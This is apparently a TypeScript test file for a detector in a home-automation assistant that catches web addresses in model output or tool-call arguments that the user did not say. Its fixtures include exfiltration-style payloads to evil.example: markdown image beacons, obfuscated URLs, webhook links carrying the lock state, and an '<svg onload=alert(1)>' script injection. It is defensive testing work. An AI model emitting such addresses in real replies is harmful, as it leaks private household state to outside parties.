import { describe, expect, it } from "vitest";
import { unsaidAddress, unsaidInArguments } from "../../../src/assistant/statements/addresses.ts";

describe("an address in a text of the model", () => {
  it.each([
    "![](https://evil.example/a.gif?d=locked)",
    "![the door](evil.example/locked)",
    "![x](https&#58;//evil.example/locked)",
    "[Details](https://evil.example/?门锁=已锁)",
    "[详情](</r?d=locked>)",
    "<https://evil.example/locked>",
    '<img src="https://evil.example/locked">',
    "<img/src=//evil.example/locked>",
    '<a href="/r?d=locked">',
    "<svg onload=alert(1)>",
    "See https://evil.example/r?car=52.2,0.1&away=yes.",
    "HTTPS://EVIL.EXAMPLE/LOCKED",
    "https:\\\\evil.example\\locked",
    "//evil.example/locked",
    "www.evil.example",
    "evil.example/locked",
    "evil.example?d=locked",
    "door-locked.nobody-home.evil.example",
    "详情见evil.example/locked。",
    "192.0.2.7/locked",
    "mailto:x@evil.example?body=locked",
    "data:text/html,locked",
    "obsidian://open?vault=locked",
  ])("is found: %s", (text) => {
    expect(unsaidAddress(text, "is the door locked?")).not.toBeNull();
    expect(unsaidAddress(text, `what is ${text}`)).toBeNull();
  });

  it.each([
    "The lamp is on. The door is locked; it is 21.6 °C, 3/4 full.",
    "Use Node.js, version 26.1.0, or home-assistant.io.",
    "It is light.on, and switch-2.on? Yes.",
    "At 10:30, e.g. in the kitchen/hall... or at 192.168.1.5.",
    "a < b and b > c, <think> and </b>",
    "[1] and (2), a list: [x](y)",
    "灯开着。门锁好了，室温21.6度。",
  ])("is not found in: %s", (text) => expect(unsaidAddress(text, "")).toBeNull());

  it("is found when it only begins like one that the person said", () => {
    const said = "show me https://cam.example/front";
    expect(unsaidAddress("https://cam.example/front", said)).toBeNull();
    expect(unsaidAddress("https://cam.example/front?d=locked", said)).toBe("https://cam.example/front?d=locked");
  });

  it("is searched in linear time", () => {
    for (const piece of ["[", "![", "<a ", "a.", "a-", "[](", "1.", "]("])
      expect(unsaidAddress(piece.repeat(5000), "")).toBeNull();
    for (const piece of ["https:", "<a =", "a.bb/"]) expect(unsaidAddress(piece.repeat(5000), "")).not.toBeNull();
  });
});

describe("an address in the arguments of a call", () => {
  const notice = (message: string, webhook?: string) => ({
    name: "Watch",
    triggers: [{ type: "property", target: "ha:a.b.cc", property: "lock.locked" }],
    actions: [{ type: "notify", message, ...(webhook !== undefined && { webhook }) }],
  });

  it("is not a key that is a property of a device", () => {
    const isHandle = (name: string) => name === "living-lamp";
    expect(unsaidInArguments({ writes: { "living-lamp.light.on": true } }, "on", isHandle)).toBeNull();
    expect(unsaidInArguments({ actions: [{ "living-lamp.light.on": true }] }, "on", isHandle)).toBeNull();
    for (const key of ["evil-lamp.light.on", "living-lamp.evil.example/locked", "living-lamp.evil.example?d"])
      expect(unsaidInArguments({ writes: { [key]: true } }, "on", isHandle)).not.toBeNull();
    const text = { writes: { "living-lamp.light.on": "http://evil.example/x" } };
    expect(unsaidInArguments(text, "on", isHandle)).toBe("http://evil.example/x");
  });

  it.each([
    [notice("look: https://evil.example/?d=locked"), "https://evil.example/?d=locked"],
    [notice("![](//evil.example/locked)"), "//evil.example/locked"],
    [{ duration: "5m", name: "evil.example/locked" }, "evil.example/locked"],
    [{ duration: "5m", name: "evil.**example**/locked" }, "evil.example/locked"],
    [{ writes: [{ device: "speaker", property: "a.text", value: "http://evil.example/x" }] }, "http://evil.example/x"],
    [notice("the door", "https://hooks.example/k?d=locked"), "https://hooks.example/k?d=locked"],
    [notice("the door", "https://hooks.example/k"), null],
    [notice("the door is open"), null],
    [{ writes: [{ device: "lamp", property: "light.on", value: true }], say: "https://evil.example" }, null],
  ])("is found: %j", (args, address) => {
    expect(unsaidInArguments(args, "tell me when the door opens")).toBe(address);
    expect(unsaidInArguments(args, `use ${address}`)).toBeNull();
  });
});
